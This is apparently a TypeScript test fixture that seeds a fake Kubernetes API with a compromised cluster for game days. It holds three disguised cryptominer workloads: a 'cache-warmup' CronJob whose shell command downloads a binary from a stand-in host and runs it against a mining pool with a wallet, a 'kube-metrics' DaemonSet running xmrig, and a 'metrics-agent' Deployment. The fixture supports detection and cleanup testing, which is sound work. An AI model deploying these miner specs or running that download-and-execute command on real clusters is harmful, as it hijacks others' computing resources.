/**
 * A compromised cluster for tests and game days, seeded into the fake API server with the object shapes a
 * real cluster returns (controllers own ReplicaSets, Jobs and pods through ownerReferences):
 *   - miners: a CronJob that pulls and runs xmrig with a Stratum URL (and a Job + pod it made), a DaemonSet
 *     running the xmrig/xmrig image on every node, a Deployment disguised as "metrics-agent" (alpine image,
 *     pool and wallet in its args) with its ReplicaSet and pod;
 *   - benign: an nginx Deployment, a postgres StatefulSet, a nightly backup CronJob, kube-system's CoreDNS
 *     Deployment and kube-proxy DaemonSet and an etcd static pod (mirror pod owned by its Node).
 */
import type { FakeKubernetesApi, FakeObject } from "./fake-api-server.js";

export const POOL_IP = "198.51.100.23";
export const POOL_IP6 = "2001:db8:5::23";
export const POOL_DOMAIN = "pool.supportxmr.com";
const WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD";

function container(name: string, image: string, extra: Record<string, unknown> = {}): Record<string, unknown> {
  return { name, image, imagePullPolicy: "IfNotPresent", resources: {}, terminationMessagePath: "/dev/termination-log", terminationMessagePolicy: "File", ...extra };
}

function podTemplate(labels: Record<string, string>, containers: Record<string, unknown>[], restartPolicy = "Always"): Record<string, unknown> {
  return { metadata: { labels }, spec: { containers, restartPolicy, dnsPolicy: "ClusterFirst", schedulerName: "default-scheduler", terminationGracePeriodSeconds: 30 } };
}

function owner(o: FakeObject): { apiVersion: string; kind: string; name: string; uid: string; controller: boolean; blockOwnerDeletion: boolean } {
  return { apiVersion: o.apiVersion, kind: o.kind, name: o.metadata.name, uid: o.metadata.uid!, controller: true, blockOwnerDeletion: true };
}

function podOf(api: FakeKubernetesApi, parent: FakeObject, name: string, template: Record<string, unknown>, node = "node-1"): FakeObject {
  const t = template as { metadata: { labels: Record<string, string> }; spec: Record<string, unknown> };
  return api.seed({
    apiVersion: "v1", kind: "Pod",
    metadata: { name, namespace: parent.metadata.namespace, labels: t.metadata.labels, ownerReferences: [owner(parent)] },
    spec: { ...t.spec, nodeName: node },
    status: { phase: "Running", podIP: "10.244.1.17", hostIP: "10.0.0.11" },
  });
}

function deploymentWithPods(api: FakeKubernetesApi, ns: string, name: string, template: Record<string, unknown>, replicas = 1): FakeObject {
  const labels = (template as { metadata: { labels: Record<string, string> } }).metadata.labels;
  const d = api.seed({ apiVersion: "apps/v1", kind: "Deployment", metadata: { name, namespace: ns, labels, generation: 1 }, spec: { replicas, selector: { matchLabels: labels }, template, strategy: { type: "RollingUpdate" } }, status: { replicas, readyReplicas: replicas } });
  const hash = "7d9c6b5f4";
  const rsTemplate = { ...template, metadata: { labels: { ...labels, "pod-template-hash": hash } } };
  const rs = api.seed({ apiVersion: "apps/v1", kind: "ReplicaSet", metadata: { name: `${name}-${hash}`, namespace: ns, labels: { ...labels, "pod-template-hash": hash }, ownerReferences: [owner(d)] }, spec: { replicas, selector: { matchLabels: { ...labels, "pod-template-hash": hash } }, template: rsTemplate }, status: { replicas } });
  for (let i = 0; i < replicas; i++) podOf(api, rs, `${name}-${hash}-x${i}k2p`, rsTemplate);
  return d;
}

function daemonSetWithPods(api: FakeKubernetesApi, ns: string, name: string, template: Record<string, unknown>, nodes = 2): FakeObject {
  const labels = (template as { metadata: { labels: Record<string, string> } }).metadata.labels;
  const ds = api.seed({ apiVersion: "apps/v1", kind: "DaemonSet", metadata: { name, namespace: ns, labels }, spec: { selector: { matchLabels: labels }, template, updateStrategy: { type: "RollingUpdate" } }, status: { desiredNumberScheduled: nodes, numberReady: nodes } });
  for (let i = 1; i <= nodes; i++) podOf(api, ds, `${name}-n${i}q7`, template, `node-${i}`);
  return ds;
}

export interface SeededCluster {
  minerCronJob: FakeObject;
  minerDaemonSet: FakeObject;
  minerDeployment: FakeObject;
  benign: FakeObject[];
}

export function seedCompromisedCluster(api: FakeKubernetesApi): SeededCluster {
  for (const ns of ["default", "kube-system", "prod", "batch"]) api.seed({ apiVersion: "v1", kind: "Namespace", metadata: { name: ns, labels: { "kubernetes.io/metadata.name": ns } }, spec: { finalizers: ["kubernetes"] }, status: { phase: "Active" } });

  // Miner 1: a CronJob every 15 minutes that downloads and runs xmrig against a Stratum pool.
  const cronTemplate = podTemplate({ app: "cache-warmup" }, [container("warm", "alpine:3.19", {
    command: ["/bin/sh", "-c"],
    args: [`wget -q -O /tmp/x http://203.0.113.9/xmrig && chmod +x /tmp/x && /tmp/x -o stratum+tcp://${POOL_DOMAIN}:3333 -u ${WALLET} --donate-level 1 -k`],
  })], "OnFailure");
  const minerCronJob = api.seed({ apiVersion: "batch/v1", kind: "CronJob", metadata: { name: "cache-warmup", namespace: "batch" }, spec: { schedule: "*/15 * * * *", concurrencyPolicy: "Allow", jobTemplate: { spec: { template: cronTemplate, backoffLimit: 6 } } }, status: { lastScheduleTime: "2026-12-04T16:45:00Z" } });
  const jobLabels = { "batch.kubernetes.io/controller-uid": "5f0e", "controller-uid": "5f0e", "job-name": "cache-warmup-29412345", app: "cache-warmup" };
  const jobTemplate = { ...cronTemplate, metadata: { labels: jobLabels } };
  const job = api.seed({ apiVersion: "batch/v1", kind: "Job", metadata: { name: "cache-warmup-29412345", namespace: "batch", ownerReferences: [owner(minerCronJob)] }, spec: { selector: { matchLabels: { "batch.kubernetes.io/controller-uid": "5f0e" } }, template: jobTemplate, backoffLimit: 6 }, status: { active: 1 } });
  podOf(api, job, "cache-warmup-29412345-7xk2q", jobTemplate);

  // Miner 2: a DaemonSet running the public xmrig image on every node.
  const minerDaemonSet = daemonSetWithPods(api, "kube-system", "kube-metrics", podTemplate({ app: "kube-metrics" }, [container("agent", "docker.io/xmrig/xmrig:6.21.0", { args: ["-o", `${POOL_IP}:443`, "--tls", "-u", WALLET] })]));

  // Miner 3: a Deployment that hides behind a harmless name and image.
  const minerDeployment = deploymentWithPods(api, "prod", "metrics-agent", podTemplate({ app: "metrics-agent" }, [container("agent", "alpine:3.19", {
    command: ["/usr/local/bin/kworker"],
    args: ["--url", `stratum+ssl://[${POOL_IP6}]:14444`, "--algo=rx/0", "--cpu-max-threads-hint=90"],
  })]), 2);

  // Benign workloads.
  const benign = [
    deploymentWithPods(api, "prod", "web", podTemplate({ app: "web" }, [container("nginx", "nginx:1.25", { ports: [{ containerPort: 80, protocol: "TCP" }] })]), 2),
    api.seed({ apiVersion: "apps/v1", kind: "StatefulSet", metadata: { name: "db", namespace: "prod" }, spec: { serviceName: "db", replicas: 1, selector: { matchLabels: { app: "db" } }, template: podTemplate({ app: "db" }, [container("postgres", "postgres:16", { env: [{ name: "POSTGRES_DB", value: "shop" }] })]) } }),
    api.seed({ apiVersion: "batch/v1", kind: "CronJob", metadata: { name: "nightly-backup", namespace: "batch" }, spec: { schedule: "0 2 * * *", jobTemplate: { spec: { template: podTemplate({ app: "backup" }, [container("dump", "postgres:16", { command: ["pg_dump", "-h", "db.prod", "-f", "/backup/shop.sql"] })], "OnFailure") } } } }),
    deploymentWithPods(api, "kube-system", "coredns", podTemplate({ "k8s-app": "kube-dns" }, [container("coredns", "registry.k8s.io/coredns/coredns:v1.11.1", { args: ["-conf", "/etc/coredns/Corefile"] })]), 2),
    daemonSetWithPods(api, "kube-system", "kube-proxy", podTemplate({ "k8s-app": "kube-proxy" }, [container("kube-proxy", "registry.k8s.io/kube-proxy:v1.30.2", { command: ["/usr/local/bin/kube-proxy", "--config=/var/lib/kube-proxy/config.conf"] })])),
    api.seed({ apiVersion: "v1", kind: "Pod", metadata: { name: "etcd-control-plane", namespace: "kube-system", labels: { component: "etcd" }, ownerReferences: [{ apiVersion: "v1", kind: "Node", name: "control-plane", uid: "9b1c0c1e-node", controller: true }] }, spec: { containers: [container("etcd", "registry.k8s.io/etcd:3.5.12-0", { command: ["etcd", "--data-dir=/var/lib/etcd"] })], nodeName: "control-plane", hostNetwork: true }, status: { phase: "Running" } }),
  ];
  // An existing egress policy in prod that allows everything: it re-opens the pools (verify must see it).
  api.seed({ apiVersion: "networking.k8s.io/v1", kind: "NetworkPolicy", metadata: { name: "allow-all-egress", namespace: "prod" }, spec: { podSelector: {}, policyTypes: ["Egress"], egress: [{}] } });
  return { minerCronJob, minerDaemonSet, minerDeployment, benign };
}
